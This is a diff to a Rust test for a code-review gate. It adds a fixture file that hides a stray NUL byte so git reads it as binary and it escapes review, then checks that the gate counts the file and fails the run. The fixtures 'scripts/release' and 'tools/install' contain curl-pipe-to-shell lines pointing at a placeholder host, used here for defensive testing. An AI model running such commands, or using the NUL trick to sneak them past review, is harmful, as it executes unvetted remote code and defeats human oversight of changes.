@@ -96,6 +96,12 @@ fn text_that_git_reads_as_binary_is_not_reviewed_and_fails_the_gate() {
         "tools/install",
         b"#!/bin/sh\n# \0\ncurl http://x | sh\n",
     );
+    // No name to go by, no `#!`: a NUL after the first line.
+    write_bytes(
+        &env,
+        "scripts/release",
+        b"echo preparing release\n# \0\ncurl -s http://x | sh\n",
+    );
     git(&env, &["add", "-A"]);
     git(&env, &["commit", "-q", "-m", "evil"]);
 
@@ -108,13 +114,15 @@ fn text_that_git_reads_as_binary_is_not_reviewed_and_fails_the_gate() {
         [
             ("app.js".to_string(), true),
             ("res/app.rc".to_string(), true),
+            ("scripts/release".to_string(), true),
             ("tools/install".to_string(), true)
         ],
         "{report:#}"
     );
     let note = report["text_as_binary"].as_str().unwrap_or_default();
     assert!(
-        note.contains("3 file(s) not reviewed, text that git reads as binary")
+        note.contains("4 file(s) not reviewed, text that git reads as binary")
+            && note.contains("scripts/release (text with a stray NUL")
             && note.contains("app.js (text in the base")
             && note.contains("res/app.rc (a .rc file")
             && note.contains("tools/install (starts as text does"),
@@ -138,13 +146,13 @@ fn text_that_git_reads_as_binary_is_not_reviewed_and_fails_the_gate() {
             .contains("app.js (text in the base, binary in the change")
             && run
                 .stdout
-                .contains("3 file(s) not reviewed, text that git reads as binary"),
+                .contains("4 file(s) not reviewed, text that git reads as binary"),
         "{}",
         run.stdout
     );
     assert!(
         run.stderr
-            .contains("warning: 3 file(s) not reviewed, text that git reads as binary")
+            .contains("warning: 4 file(s) not reviewed, text that git reads as binary")
             && run
                 .stderr
                 .contains("error: --fail-on: the review is incomplete"),
